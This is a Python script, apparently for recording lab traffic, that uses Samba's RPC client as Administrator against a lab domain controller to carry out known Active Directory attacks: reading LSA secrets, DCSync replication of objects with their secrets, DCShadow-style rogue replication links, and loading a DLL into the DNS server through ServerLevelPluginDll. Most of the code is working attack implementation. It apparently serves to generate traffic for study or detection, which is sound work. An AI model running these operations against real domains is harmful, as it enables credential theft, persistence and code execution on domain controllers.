#!/usr/bin/python3
"""The same calls with Samba's own RPC client: run by `record` on the lab's client.

Over SMB it sends each call by one transceive: FSCTL_PIPE_TRANSCEIVE, in SMB1 TransactNmPipe. The
binding chooses transport, dialect and protection: ncacn_np:dc1.lab.test[smb1]. Every call prints
a line with its result.
"""

import argparse

import samba
from samba import NTSTATUSError, WERRORError, credentials, drs_utils, param
from samba.dcerpc import dnsserver, drsuapi, lsa, misc, security

from domain import ADMIN_PASSWORD, DOMAIN, REALM

SERVER = "dc1.lab.test"


def administrator(options, settings):
    user = credentials.Credentials()
    user.guess(settings)
    user.set_username("Administrator")
    user.set_password(ADMIN_PASSWORD)
    user.set_domain(DOMAIN)
    user.set_kerberos_state(credentials.MUST_USE_KERBEROS if options.kerberos
                            else credentials.DONT_USE_KERBEROS)
    if options.kerberos:
        user.set_realm(REALM)
    return user


def printing(binding):
    """printing is the binding with the flag that has the client print its calls."""
    return binding[:-1] + ",print]" if binding.endswith("]") else binding + "[print]"


def open_policy(options, settings):
    """open_policy opens the server's LSA policy, which every operation on secrets needs."""
    association = lsa.lsarpc(printing(options.binding), settings, administrator(options, settings))
    policy = association.OpenPolicy2("dc1", lsa.ObjectAttribute(),
                                     security.SEC_FLAG_MAXIMUM_ALLOWED)
    return association, policy


def retrieve(options, settings):
    """retrieve asks for the secrets called names, by LsarRetrievePrivateData."""
    association, policy = open_policy(options, settings)
    for name in options.names:
        wanted = lsa.String()
        wanted.string = name
        try:
            association.RetrievePrivateData(policy, wanted, None)
            print(f"LsarRetrievePrivateData {name}: success")
        except NTSTATUSError as error:
            print(f"LsarRetrievePrivateData {name}: {error.args[1]}")
    association.Close(policy)


def dcsync(options, settings):
    """dcsync replicates the objects at names, secrets included, as a domain controller would."""
    association, handle, _ = drs_utils.drsuapi_connect(SERVER, settings, administrator(options, settings))
    for name in options.names:
        _, answer = association.DsGetNCChanges(handle, 8, replication_of(name))
        print(f"DRSGetNCChanges {name}: {answer.object_count} object")


def replication_of(distinguished_name):
    """replication_of asks for one object, all attributes [MS-DRSR §4.1.10.2.8]."""
    request = drsuapi.DsGetNCChangesRequest8()
    request.destination_dsa_guid = misc.GUID("9d30e1b4-1a9c-4f0e-9d5b-5a3c41f1a0e7")
    request.naming_context = drsuapi.DsReplicaObjectIdentifier()
    request.naming_context.dn = distinguished_name
    request.highwatermark = drsuapi.DsReplicaHighWaterMark()
    request.replica_flags = drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP
    request.max_object_count = 1
    request.extended_op = drsuapi.DRSUAPI_EXOP_REPL_OBJ
    return request


def attempt(what, call, *arguments):
    try:
        call(*arguments)
        print(f"{what}: success")
    except (NTSTATUSError, WERRORError) as error:
        print(f"{what}: {error.args[1]}")


def secret(options, settings):
    """secret opens the secrets called names and reads them."""
    association, policy = open_policy(options, settings)
    for name in options.names:
        wanted = lsa.String()
        wanted.string = name
        opened = association.OpenSecret(policy, wanted, security.SEC_FLAG_MAXIMUM_ALLOWED)
        attempt(f"LsarQuerySecret {name}", association.QuerySecret, opened, lsa.DATA_BUF_PTR(),
                None, None, None)


def shadow(options, settings):
    """shadow has the controller add replication links to the partitions called names, as a rogue
    controller does to push its changes [MS-DRSR §4.1.19, §4.1.26]."""
    association, handle, _ = drs_utils.drsuapi_connect(SERVER, settings, administrator(options, settings))
    for name in options.names:
        partition = drsuapi.DsReplicaObjectIdentifier()
        partition.dn = name
        added = drsuapi.DsReplicaAddRequest1()
        added.naming_context = partition
        added.source_dsa_address = "rogue._msdcs.lab.test"
        added.options = drsuapi.DRSUAPI_DRS_WRIT_REP
        attempt("DRSReplicaAdd", association.DsReplicaAdd, handle, 1, added)
        link = drsuapi.DsReplicaUpdateRefsRequest1()
        link.naming_context = partition
        link.dest_dsa_dns_name = "rogue._msdcs.lab.test"
        link.dest_dsa_guid = misc.GUID("9d30e1b4-1a9c-4f0e-9d5b-5a3c41f1a0e7")
        link.options = drsuapi.DRSUAPI_DRS_ADD_REF | drsuapi.DRSUAPI_DRS_WRIT_REP
        attempt("DRSUpdateRefs", association.DsReplicaUpdateRefs, handle, 1, link)
        link.options = drsuapi.DRSUAPI_DRS_DEL_REF | drsuapi.DRSUAPI_DRS_WRIT_REP
        attempt("DRSUpdateRefs, deletion", association.DsReplicaUpdateRefs, handle, 1, link)


def dns_plugin(options, settings):
    """dns_plugin has the DNS server load a library from a share [MS-DNSP §3.1.4.1]."""
    association = dnsserver.dnsserver(printing(options.binding), settings,
                                      administrator(options, settings))
    for name in options.names:
        attempt("DnssrvOperation2 ServerLevelPluginDll", association.DnssrvOperation2,
                dnsserver.DNS_CLIENT_VERSION_LONGHORN, 0, SERVER, None, 0, "ServerLevelPluginDll",
                dnsserver.DNSSRV_TYPEID_LPWSTR, name)


ACTIONS = {"retrieve": retrieve, "dcsync": dcsync, "secret": secret, "shadow": shadow,
           "dns-plugin": dns_plugin}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("action", choices=ACTIONS)
    parser.add_argument("names", nargs="+", help="secrets, distinguished names or libraries")
    parser.add_argument("--binding", default=f"ncacn_np:{SERVER}")
    parser.add_argument("--kerberos", action="store_true")
    options = parser.parse_args()
    settings = param.LoadParm()
    settings.load_default()
    settings.set("log level", "10")  # from 9 on, drs_utils prints its calls
    samba.set_debug_level(10)
    ACTIONS[options.action](options, settings)


if __name__ == "__main__":
    main()
